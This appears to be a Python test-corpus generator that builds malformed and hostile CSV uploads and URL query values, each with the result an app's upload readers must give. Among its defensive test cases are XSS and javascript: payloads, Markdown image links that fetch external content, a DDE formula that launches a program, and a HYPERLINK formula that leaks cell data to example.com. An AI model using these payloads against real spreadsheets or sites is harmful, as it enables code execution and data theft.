"""Hostile and odd inputs for the upload readers and for the pages' URL settings.

:func:`table_files` builds, in memory, a corpus of table files a student might upload by
mistake or on purpose (encodings, separators, line endings, empty and huge files, pictures
and archives named ``.csv``, ragged rows, unclosed quotes, HTML, Markdown and
``javascript:`` in names and values, spreadsheet formulas, bad coordinates, ...), each with
what :mod:`gdl_core.uploads` must do with it: read it to a given result, or refuse
it with an ``UploadError`` whose message names the problem.

:func:`query_values` lists bad values for the URL query parameters that pages read with
``ui.state.Param`` (``alpha=NaN``, ``seed=-1``, ``seed=1e309``, ``n=<script>``, ...), each
with what a page must do with it.

Run as a script to list the corpus (``python tests/hostile/make_corpus.py``), or with a
folder to write the files there for trying them by hand in the running app
(``python tests/hostile/make_corpus.py /tmp/corpus``). Nothing is written otherwise.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
WRODL_CSV = ROOT / "gdl_core" / "data" / "wrodl.csv"


@dataclass(frozen=True, eq=False)
class Expect:
    """What one reader must do with a file.

    ``error`` None: it must succeed, and every entry of ``facts`` must hold of the result
    (the test knows what each key means for each reader). Otherwise it must raise
    ``UploadError`` and the message must contain each string of ``error`` (case ignored).
    """

    error: tuple[str, ...] | None = None
    facts: dict = field(default_factory=dict)


def ok(**facts) -> Expect:
    """The reader must succeed; ``facts`` describe the result."""
    return Expect(None, facts)


def refused(*words: str) -> Expect:
    """The reader must raise UploadError whose message contains every one of ``words``."""
    return Expect(tuple(words))


@dataclass(frozen=True, eq=False)
class BadFile:
    """One uploaded file: its ``name`` and bytes, why it is in the corpus, and what
    ``read_table`` (``table``) must do, then, if that succeeds, ``categorical_dataset``
    (``categorical``) and ``points_dataset`` (``points``). ``None`` for the last two:
    either outcome is allowed, but the only exception allowed is still UploadError."""

    id: str
    name: str
    data: bytes
    why: str
    table: Expect
    categorical: Expect | None = None
    points: Expect | None = None


@dataclass(frozen=True)
class BadQueryValue:
    """A value for the URL query parameter ``param`` (as the page receives it, decoded).

    ``expect``: ``"default"`` the value is ignored, the setting keeps its default and a
    notice says so; ``"clamped"`` the nearest allowed value is used and a notice says so;
    ``"in range"`` any allowed value, as long as the page shows no error.
    """

    param: str
    value: str
    why: str
    expect: str = "default"


# --------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------


def _csv(
    rows: Iterable[Sequence[object]],
    separator: str = ",",
    encoding: str = "utf-8",
    newline: str = "\n",
) -> bytes:
    """Rows written by the csv module (quoting what needs quoting)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=separator, lineterminator=newline)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def _png(width: int = 2, height: int = 2) -> bytes:
    """A real, valid PNG image (grey pixels), made with the standard library."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        body = kind + payload
        return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))

    raw = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, payload in files.items():
            archive.writestr(name, payload)
    return buffer.getvalue()


SMALL = b"colour,size\nred,S\nblue,M\nred,L\n"
SMALL_OK = ok(shape=(3, 2), columns=("colour", "size"), first_row=("red", "S"),
              encoding="utf-8", separator=",")


def _wrodl() -> bytes:
    return WRODL_CSV.read_bytes()


def _wrodl_rows() -> list[list[str]]:
    return list(csv.reader(io.StringIO(_wrodl().decode("utf-8"), newline="")))


# --------------------------------------------------------------------------------------
# The corpus of table files
# --------------------------------------------------------------------------------------


def table_files() -> list[BadFile]:
    """The corpus: every file in memory, with what each reader must do with it."""
    files: list[BadFile] = []

    def add(id, name, data, why, table, categorical=None, points=None):
        files.append(BadFile(id, name, data, why, table, categorical, points))

    # -- Good files, some of them odd: they must be read ---------------------------------
    add("plain", "colours.csv", SMALL, "a plain small table", SMALL_OK,
        ok(features=("colour", "size"), values=(("blue", "red"), ("L", "M", "S")),
           is_wrodl=False),
        refused("no longitude and latitude"))
    add("utf8_bom", "bom.csv", codecs.BOM_UTF8 + "café,taille\nrouge,S\nbleu,M\n".encode(),
        "UTF-8 with a byte-order mark, as Excel saves 'CSV UTF-8'",
        ok(columns=("café", "taille"), encoding="utf-8-sig", first_row=("rouge", "S")),
        ok(features=("café", "taille")))
    add("latin1", "latin1.csv", "prénom;ville\nZoë;Besançon\nJosé;Málaga\n".encode("cp1252"),
        "Windows-1252 (Latin-1) with semicolons, as a French Excel saves 'CSV'",
        ok(columns=("prénom", "ville"), encoding="cp1252", separator=";",
           first_row=("Zoë", "Besançon")))
    add("cp1252_only_bytes", "euro.csv",
        "item,price\nticket,€5\nbook,“cheap”\n".encode("cp1252"),
        "bytes 0x80 and 0x93 that only Windows-1252 gives a meaning (€, “)",
        ok(encoding="cp1252", first_row=("ticket", "€5")))
    add("semicolon_decimal_comma", "paris.csv", b"lon;lat\n2,35;48,85\n-0,12;51,5\n",
        "semicolons and a comma as the decimal mark (a European spreadsheet)",
        ok(separator=";", shape=(2, 2), first_row=("2,35", "48,85")),
        None, ok(points=((2.35, 48.85), (-0.12, 51.5))))
    add("tab", "points.tsv", b"lon\tlat\n1.5\t2.5\n-170\t-80\n",
        "tab-separated", ok(separator="\t", shape=(2, 2)),
        ok(features=("lon", "lat")), ok(points=((1.5, 2.5), (-170.0, -80.0))))
    add("crlf", "crlf.csv", b"a,b\r\nx,y\r\nz,w\r\n", "Windows line endings (CRLF)",
        ok(shape=(2, 2), first_row=("x", "y")))
    add("cr_only", "cr.csv", b"a,b\rx,y\rz,w\r", "old Mac line endings (CR only)",
        ok(shape=(2, 2), first_row=("x", "y")))
    add("no_final_newline", "nofinal.csv", b"a,b\nx,y\nz,w", "no line break at the end",
        ok(shape=(2, 2)))
    add("quoted_newline", "multiline.csv", b'a,b\n"two\nlines",x\ny,z\n',
        "a quoted value holding a line break", ok(shape=(2, 2), first_row=("two\nlines", "x"),
                                                  rows=(2, 3)))
    add("blank_lines", "blanks.csv", b"\n\na,b\n\nx,y\n\n,\nz,w\n\n\n",
        "blank lines before, between and after the rows, and a row of separators only",
        ok(shape=(2, 2), rows=(5, 8)))
    add("excel_phantom_columns", "phantom.csv", b"a,b,,\nx,y,,\nz,w,,\n",
        "empty unnamed columns at the right, as Excel sometimes writes them",
        ok(columns=("a", "b"), shape=(2, 2)))
    add("spaces_around", "spaces.csv", b" a , b \n x , y \n z , w \n",
        "spaces around names and values", ok(columns=("a", "b"), first_row=("x", "y")))
    add("unicode_names", "unicode.csv", "名前,色,emoji\n太郎,赤,🙂\n花子,青,🙃\n".encode(),
        "CJK and emoji", ok(columns=("名前", "色", "emoji"), first_row=("太郎", "赤", "🙂")))
    add("one_column", "one.csv", b"colour\nred\nblue\nred\n", "a single column",
        ok(shape=(3, 1)), ok(features=("colour",), n_values=(2,)),
        refused("no longitude and latitude"))
    add("values_stay_text", "types.csv",
        b"code,flag,missing,date\n007,TRUE,NA,2024-01-02\n1e3,no,,03/04/2024\n",
        "leading zeros, booleans, NA, exponent and dates must stay the text they were",
        ok(first_row=("007", "TRUE", "NA", "2024-01-02"),
           cell=(1, "code", "1e3"), cell2=(1, "missing", "")))

    # -- Not a table at all ----------------------------------------------------------------
    add("empty", "empty.csv", b"", "zero bytes", refused("empty"))
    add("bom_only", "bom_only.csv", codecs.BOM_UTF8, "a byte-order mark and nothing else",
        refused("empty"))
    add("whitespace_only", "blank.csv", b"  \n\t\n \r\n   ", "only spaces and line breaks",
        refused("blank space"))
    add("separators_and_newlines", "hollow.csv", b",,\n,\n\n , \t\n" * 1_000,
        "separators and line breaks, no values", refused("only separators", "no values"))
    add("nul_bytes", "nul.csv", b"a,b\nx\x00y,1\n", "a NUL byte inside a value",
        refused("NUL", "not a text file"))
    add("png_named_csv", "photo.csv", _png(), "a PNG image renamed to .csv",
        refused("PNG image", "photo.csv"))
    add("jpeg_named_csv", "photo2.csv", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)),
        "a JPEG header", refused("JPEG image"))
    add("zip_named_csv", "archive.csv", _zip({"data.csv": SMALL}), "a ZIP archive named .csv",
        refused("ZIP archive", "unpack"))
    add("xlsx_named_csv", "book.csv",
        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
        "an Excel workbook (a ZIP inside) renamed to .csv", refused("Excel workbook", "CSV"))
    add("xls_named_csv", "old.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
        "an old Excel .xls file", refused("Excel", ".xls"))
    add("pdf_named_csv", "paper.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF",
        refused("PDF"))
    add("gzip_named_csv", "data.csv", gzip.compress(SMALL, mtime=0), "a gzipped CSV",
        refused("compressed"))
    add("utf16", "utf16.csv", "a,b\nx,y\n".encode("utf-16"),
        "UTF-16 with a BOM (Excel's 'Unicode Text')", refused("UTF-16", "CSV UTF-8"))
    add("utf16_no_bom", "utf16le.csv", "a,b\nx,y\n".encode("utf-16-le"),
        "UTF-16 without a BOM: NUL bytes between the letters", refused("NUL"))
    add("random_bytes", "noise.csv",
        bytes(random.Random(0).randrange(0x80, 0x100) for _ in range(4096)) + b"\x81",
        "bytes valid in neither UTF-8 nor Windows-1252", refused("UTF-8", "Windows-1252"))
    add("control_chars", "bell.csv", b"a,b\nx\x07,y\n", "a BEL control character",
        refused("control character", "U+0007"))
    add("html_page", "page.csv",
        b"<!DOCTYPE html>\n<html><body><table><tr><td>1</td></tr></table></body></html>\n",
        "a web page saved as .csv", refused("HTML"))
    add("svg_named_csv", "picture.csv",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>\n',
        "an SVG picture", refused("markup"))
    add("json_named_csv", "data.csv", b'[{"lon": 1, "lat": 2}, {"lon": 3, "lat": 4}]\n',
        "JSON, not CSV", refused("JSON"))

    # -- Too big ---------------------------------------------------------------------------
    add("too_many_bytes", "big.csv", b"a\n" + b"x\n" * 1_000_000,
        "2,000,002 bytes: just over the limit", refused("2,000,002 bytes", "2,000,000 bytes"))
    add("way_too_many_bytes", "huge.csv", b"a,b\n" + b"xxxxxxxxx,yyyyyyyyy\n" * 250_000,
        "5 MB", refused("5 MB", "2 MB"))
    add("too_many_rows", "rows.csv", b"a,b\n" + b"x,y\n" * 10_001, "10,001 rows of data",
        refused("10,001 rows", "10,000"))
    add("rows_at_limit", "rows_ok.csv", b"a,b\n" + b"x,y\n" * 10_000, "exactly 10,000 rows",
        ok(shape=(10_000, 2)))
    add("distinct_1e5", "ids.csv",
        _csv([("code", "colour")] + [(f"v{i}", f"c{i % 3}") for i in range(100_000)]),
        "10⁵ distinct values in a column (and so 10⁵ rows)", refused("100,000 rows", "10,000"))
    add("too_many_columns", "wide.csv",
        _csv([[f"c{j}" for j in range(21)], list(range(21))]), "21 columns",
        refused("21 columns", "20"))
    add("columns_at_limit", "wide_ok.csv",
        _csv([[f"c{j}" for j in range(20)], list(range(20)), list(range(20))]),
        "exactly 20 columns", ok(shape=(2, 20)))
    add("very_many_columns", "wider.csv",
        _csv([[f"c{j}" for j in range(100_000)], ["1"] * 100_000]), "100,000 columns",
        refused("100,000 columns"))
    add("separators_only", "commas.csv", b"," * 100_000 + b"\n1,2\n",
        "a first line of 100,000 separators: blank, so the next line is the header",
        refused("no rows"))
    add("long_cell", "long.csv", b"a,b\n" + b"x" * 201 + b",1\n", "a value of 201 characters",
        refused("row 2", "201 characters", "200"))
    add("giant_cell", "giant.csv", b"a,b\n" + b"x" * 150_000 + b",1\n",
        "a value longer than the csv module's own field limit", refused("row 2", "characters"))
    add("long_header", "longname.csv", b"a," + b"n" * 500 + b"\n1,2\n",
        "a column name of 500 characters", refused("column 2", "500 characters"))

    # -- Broken tables -----------------------------------------------------------------------
    add("header_only", "header.csv", b"a,b,c\n", "a header and no rows",
        refused("header", "no rows"))
    add("header_only_blank_rows", "header2.csv", b"a,b\n\n,\n\n", "a header, then blank rows",
        refused("no rows"))
    add("duplicate_headers", "dup.csv", b"a,b,a\n1,2,3\n", "two columns named a",
        refused("columns 1 and 3", "`a`"))
    add("duplicate_headers_case", "dupcase.csv", b"Age,age\n1,2\n", "Age and age",
        refused("both called"))
    add("empty_header_name", "noname.csv", b"a,,c\n1,2,3\n", "a column with no name",
        refused("column 2 has no name"))
    add("value_under_no_name", "noname2.csv", b"a,b,\n1,2,3\n",
        "a value under a trailing column with no name", refused("row 2", "no name"))
    add("ragged_short", "short.csv", b"a,b,c\n1,2,3\n4,5\n", "a row with too few values",
        refused("row 3", "2 values", "3 columns"))
    add("ragged_long", "long_row.csv", b"a,b\n1,2\n3,4,5\n", "a row with too many values",
        refused("row 3", "3 values", "2 columns"))
    add("ragged_semicolon", "short.csv", b"a;b;c\n1;2;3\n4;5\n6;7;8\n",
        "a semicolon file with a short row", refused("row 3", "(;)"))
    add("unbalanced_quote", "quote.csv", b'a,b\n"x,1\n2,3\n', "a quote that never closes",
        refused("quote", "row 2", "never closed"))
    add("text_after_quote", "quote2.csv", b'a,b\nx,1\n"ab"c,1\n',
        "text after a closing quote", refused("quote", "row 3"))
    add("stray_quote_inside", "quote3.csv", b'a,b\nab"c,1\n',
        "a quote inside an unquoted value is kept as text", ok(first_row=('ab"c', "1")))

    # -- Hostile text: kept as text, never anything else -----------------------------------
    script = "<script>alert(1)</script>"
    add("html_in_values", "xss.csv",
        _csv([("name", "colour"), (script, "red"), ("<img src=x onerror=alert(1)>", "blue"),
              ("<b>bold</b>", "red")]),
        "HTML and script in values", ok(first_row=(script, "red")),
        ok(values=(("<b>bold</b>", "<img src=x onerror=alert(1)>", script), ("blue", "red"))))
    add("html_in_names", "xss2.csv",
        _csv([(script, "<h1>big</h1>"), ("a", "b"), ("c", "d")]), "HTML in column names",
        ok(columns=(script, "<h1>big</h1>")), ok(features=(script, "<h1>big</h1>")))
    md_names = ("[x](javascript:alert(1))", "**bold**", "![img](http://example.com/t.png)",
                "`code`", ":red[red] $x^2$")
    add("markdown_in_names", "md.csv",
        _csv([md_names, ("a", "b", "c", "d", "e"), ("f", "g", "h", "i", "j")]),
        "Markdown links, images, code, colour directives and LaTeX in names",
        ok(columns=md_names), ok(features=md_names))
    add("javascript_values", "js.csv",
        _csv([("link", "n"), ("javascript:alert(1)", "1"), ("[x](javascript:alert(1))", "2"),
              ("data:text/html,<script>alert(1)</script>", "3")]),
        "javascript: and data: URLs as values",
        ok(first_row=("javascript:alert(1)", "1")))
    formulas = ('=HYPERLINK("http://example.com/?leak="&A1,"click")', "+1", "@SUM(1+1)",
                "-2+3", "=1+1", "=cmd|' /C calc'!A0", "\t=1+1", "-3.5")
    add("formulas", "formulas.csv",
        _csv([("item", "formula")] + [(f"r{i}", value) for i, value in enumerate(formulas)]),
        "spreadsheet formulas and DDE: read as text, never evaluated",
        ok(first_row=("r0", formulas[0]), cell=(4, "formula", "=1+1"),
           cell2=(6, "formula", "=1+1")))  # the tab is surrounding space, removed
    add("invisible_characters", "bidi.csv",
        _csv([("name", "kind"), ("abc\u202edef", "bidi"), ("zero\u200bwidth", "zw"),
              ("line\u2028sep", "ls")]),
        "a right-to-left override, a zero-width space and a line separator: kept as text",
        ok(first_row=("abc\u202edef", "bidi")))
    add("very_long_values_ok", "long_ok.csv",
        _csv([("a", "b"), ("x" * 200, "1"), ("y" * 200, "2")]), "values of exactly 200 characters",
        ok(shape=(2, 2)))

    # -- Categorical datasets --------------------------------------------------------------
    add("one_row", "one_row.csv", b"a,b\nx,y\n", "a single row of data",
        ok(shape=(1, 2)), refused("1 row", "at least two"))
    add("distinct_1e4", "ids2.csv",
        _csv([("code", "colour")] + [(f"v{i}", f"c{i % 3}") for i in range(10_000)]),
        "10,000 distinct values in a column",
        ok(shape=(10_000, 2)), refused("`code`", "10,000 different values", "50"))
    add("categories_51", "c51.csv", _csv([("k", "v")] + [(f"k{i}", "v") for i in range(51)]),
        "51 distinct values", ok(), refused("51 different values"))
    add("categories_50", "c50.csv",
        _csv([("k", "v")] + [(f"k{i}", "v") for i in range(50)] + [("k0", "w")]),
        "50 distinct values: at the limit", ok(), ok(n_values=(50, 2)))
    add("all_empty_column", "emptycol.csv", b"a,b\nx,\ny,\n", "a column empty in every row",
        ok(shape=(2, 2)), refused("`b`", "empty in every row"))
    add("partly_empty_column", "partly.csv", b"a,b\nx,\ny,1\nz,2\n",
        "an empty value is a value of its own", ok(),
        ok(values=(("x", "y", "z"), ("", "1", "2"))))
    add("too_many_combinations", "combos.csv",
        _csv([[f"f{j}" for j in range(6)]] + [[f"v{(i + j) % 10}" for j in range(6)]
                                              for i in range(10)]),
        "six columns of ten values: 10⁶ combinations", ok(),
        refused("1,000,000 possible combinations", "100,000"))
    add("numeric_categories", "numbers.csv", b"grade\n10\n2\n1\n2\n-1\n",
        "numbers as categories are sorted as numbers", ok(),
        ok(values=(("-1", "1", "2", "10"),)))
    add("id_column", "with_id.csv", b"id,colour\n1,red\n2,blue\n3,red\n",
        "an id column is left out", ok(), ok(features=("colour",), dropped=("id",)))
    add("wrodl", "wrodl.csv", _wrodl(), "the built-in Wrodl data, uploaded", ok(shape=(50, 6)),
        ok(is_wrodl=True, dropped=("face_id",), n_values=(3, 8, 4, 6, 7)))
    rows = _wrodl_rows()
    order = [0, 5, 3, 1, 4, 2]  # columns shuffled
    add("wrodl_semicolon_bom_crlf", "wrodl_excel.csv",
        codecs.BOM_UTF8 + _csv([[row[j] for j in order] for row in rows], ";", newline="\r\n"),
        "the Wrodl data as a European Excel saves it, columns in another order",
        ok(shape=(50, 6), separator=";", encoding="utf-8-sig"),
        ok(is_wrodl=True, n_values=(3, 8, 4, 6, 7)))
    add("wrodl_without_id", "wrodl5.csv", _csv([row[1:] for row in rows]),
        "the five Wrodl features only", ok(shape=(50, 5)), ok(is_wrodl=True, dropped=()))
    foreign = [row[:] for row in rows]
    foreign[7][2] = "Purple"
    add("wrodl_foreign_value", "wrodl_purple.csv", _csv(foreign),
        "Wrodl columns with a value outside the vocabulary: counted, but not drawn as faces",
        ok(), ok(is_wrodl=False, note="Purple"))

    # -- Points for the world map ------------------------------------------------------------
    add("points_named", "cities.csv", b"Latitude,Longitude\n48.85,2.35\n51.5,-0.12\n",
        "latitude first: the columns are found by name", ok(),
        None, ok(points=((2.35, 48.85), (-0.12, 51.5))))
    add("points_xy", "xy.csv", b"y,x\n10,20\n-10,-20\n", "x and y", ok(), None,
        ok(points=((20.0, 10.0), (-20.0, -10.0))))
    add("points_unnamed", "unnamed.csv", b"city,a,b\nParis,2.35,48.85\nOslo,10.75,59.91\n",
        "no coordinate names: the first two numeric columns", ok(), None,
        ok(points=((2.35, 48.85), (10.75, 59.91))))
    add("points_unicode_minus", "minus.csv", "lon,lat\n\u22123.5,\u221210\n".encode(),
        "a true minus sign, as the app itself writes numbers", ok(), None,
        ok(points=((-3.5, -10.0),)))
    add("points_nan", "nan.csv", b"lon,lat\n1,2\nNaN,3\n", "NaN as a coordinate", ok(), None,
        refused("row 3", "`NaN`", "not a number"))
    add("points_inf", "inf.csv", b"lon,lat\n1,inf\n", "inf as a coordinate", ok(), None,
        refused("row 2", "`inf`", "not a number"))
    add("points_huge", "huge_number.csv", b"lon,lat\n1e999,2\n", "a number too large to hold",
        ok(), None, refused("row 2", "`1e999`", "too large"))
    add("points_lon_range", "lon200.csv", b"lon,lat\n10,10\n200,10\n", "longitude 200",
        ok(), None, refused("row 3", "longitude", "`200`", "-180 to 180"))
    add("points_lat_range", "lat95.csv", b"lon,lat\n100,10\n100,-95\n", "latitude −95",
        ok(), None, refused("row 3", "latitude", "`-95`", "-90 to 90"))
    add("points_swapped", "swapped.csv", b"lon,lat\n48.85,2.35\n51.5,120\n",
        "latitude and longitude swapped", ok(), None, refused("row 3", "swapped"))
    add("points_text", "text.csv", b"lon,lat\n1,2\nabc,3\n", "a word as a coordinate", ok(),
        ok(), refused("row 3", "`abc`", "not a number"))
    add("points_script", "xss_points.csv", _csv([("lon", "lat"), (script, "1")]),
        "a script tag as a coordinate: named safely in the message", ok(), None,
        refused("row 2", f"`{script}`"))
    add("points_markdown", "md_points.csv",
        _csv([("lon", "lat"), ("1", "[x](javascript:alert(1))")]),
        "a Markdown link as a coordinate", ok(), None,
        refused("row 2", "`[x](javascript:alert(1))`"))
    add("points_backticks", "tick_points.csv",
        _csv([("lon", "lat"), ("`![](http://example.com/t.png)`", "1")]),
        "backticks that try to close the message's code span", ok(), None,
        refused("row 2", "`` `![](http://example.com/t.png)` ``"))
    add("points_empty_cell", "hole.csv", b"lon,lat\n1,\n", "a missing latitude", ok(), None,
        refused("row 2", "no latitude"))
    add("points_too_many", "many.csv", b"lon,lat\n" + b"1,2\n" * 5_001, "5,001 points", ok(),
        None, refused("5,001 points", "5,000"))
    add("points_unicode_digits", "arabic.csv", "lon,lat\n١٢,٣\n".encode(),
        "Arabic-Indic digits, which Python's float() would accept", ok(), None,
        refused("row 2", "not a number"))
    add("points_thousands", "thousands.csv", b"lon;lat\n1.234,5;2\n",
        "a thousands separator and a decimal comma", ok(), None,
        refused("row 2", "`1.234,5`", "not a number"))
    add("points_one_column", "lon_only.csv", b"lon\n1\n", "longitude without latitude", ok(),
        None, refused("`lon`", "latitude"))
    add("points_lat_only", "lat_only.csv", b"lat,name\n1,a\n", "latitude without longitude",
        ok(), None, refused("`lat`", "longitude"))
    add("points_underscore", "underscore.csv", b"lon,lat\n1_0,2\n",
        "an underscore in a number, which Python's float() would accept", ok(), None,
        refused("row 2", "`1_0`"))
    add("points_hex", "hex.csv", b"lon,lat\n0x10,2\n", "a hexadecimal number", ok(), None,
        refused("row 2", "`0x10`"))
    add("points_edges", "edges.csv", b"lon,lat\n-180,-90\n180,90\n0,0\n+1e1,-0\n",
        "the very edges of the map, a plus sign and an exponent", ok(), None,
        ok(points=((-180.0, -90.0), (180.0, 90.0), (0.0, 0.0), (10.0, 0.0))))
    return files


# --------------------------------------------------------------------------------------
# Bad URL query values
# --------------------------------------------------------------------------------------


def query_values() -> list[BadQueryValue]:
    """Values a shared link may carry for the pages' settings, as ``st.query_params`` gives
    them (already percent-decoded). Parameters: ``alpha`` (pseudocount, 0 … 10, slider
    stops), ``seed`` (whole number ≥ 0), ``n`` (whole number 1 … 5,000 on the world page),
    ``land`` (1 or 0), ``lon_min`` (−180 … 180), ``radius`` (0 … 15 in steps of 0.5),
    ``face`` (0 … 49), ``k`` (1 … 10)."""
    v = BadQueryValue
    return [
        v("alpha", "NaN", "not a number"),
        v("alpha", "nan", "lower-case NaN"),
        v("alpha", "inf", "infinity"),
        v("alpha", "-inf", "minus infinity"),
        v("alpha", "Infinity", "JavaScript's spelling of infinity"),
        v("alpha", "-1", "a negative pseudocount", "clamped"),
        v("alpha", "1e309", "overflows a float to infinity"),
        v("alpha", "1e-400", "underflows to 0", "in range"),
        v("alpha", "0x10", "hexadecimal"),
        v("alpha", "1_0", "an underscore, which Python's float() accepts", "in range"),
        v("alpha", "", "an empty value"),
        v("alpha", " ", "a space"),
        v("alpha", "0.3", "between two slider stops: the nearest is used", "in range"),
        v("seed", "-1", "a negative seed", "clamped"),
        v("seed", "1e309", "overflows a float to infinity"),
        v("seed", "1.5", "not a whole number"),
        v("seed", "9" * 30, "larger than any seed", "clamped"),
        v("seed", "١٢", "Arabic-Indic digits, which Python's float() accepts", "in range"),
        v("seed", "１２", "full-width digits, which Python's float() accepts", "in range"),
        v("seed", "12abc", "digits then letters"),
        v("seed", "true", "a boolean for a number"),
        v("seed", "+5", "a plus sign", "in range"),
        v("seed", "0b101", "binary"),
        v("n", "<script>alert(1)</script>", "HTML in a number"),
        v("n", "[x](javascript:alert(1))", "a Markdown link in a number"),
        v("n", "1`![](https://example.com/t.png)", "a backtick that closes the notice's code "
          "span, then a Markdown image that would fetch from the internet"),
        v("n", "`x`![](https://example.com/t.png)", "two backticks: the image lands inside a "
          "code span again"),
        v("n", "**bold** :red[red] $x^2$", "Markdown, colour directive and LaTeX"),
        v("n", "9" * 10_000, "a very long number, which float() makes infinite"),
        v("n", "9" * 300, "a long number that float() still holds", "clamped"),
        v("n", "x" * 10_000, "a very long non-number"),
        v("n", "0", "below the minimum", "clamped"),
        v("n", "-0", "minus zero", "clamped"),
        v("n", "1e3", "an exponent for a whole number", "in range"),
        v("n", "\t7\n", "a tab and a line break around a number", "in range"),
        v("n", "7\x00", "a NUL byte"),
        v("n", "\u202e7", "a right-to-left override"),
        v("land", "yes", "a word for a boolean"),
        v("land", "2", "a number other than 0 or 1"),
        v("land", "TRUE", "upper case"),
        v("lon_min", "-181", "off the map", "clamped"),
        v("lon_min", "NaN", "not a number"),
        v("radius", "1e-320", "a subnormal number", "in range"),
        v("radius", "-0.0", "minus zero", "in range"),
        v("face", "49.0000000000000001", "rounds to 49 as a float", "in range"),
        v("face", "∞", "the infinity sign"),
        v("k", "1e2", "above the maximum", "clamped"),
    ]


# --------------------------------------------------------------------------------------


def main(argv: list[str]) -> int:
    files = table_files()
    if argv:
        folder = Path(argv[0])
        folder.mkdir(parents=True, exist_ok=True)
        for item in files:
            (folder / f"{item.id}__{item.name}").write_bytes(item.data)
        print(f"wrote {len(files)} files to {folder}")
        return 0
    for item in files:
        outcome = "read" if item.table.error is None else f"refused: {', '.join(item.table.error)}"
        print(f"{item.id:28} {len(item.data):>10,} bytes  {outcome}  ({item.why})")
    print(f"{len(files)} table files, {len(query_values())} URL values")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
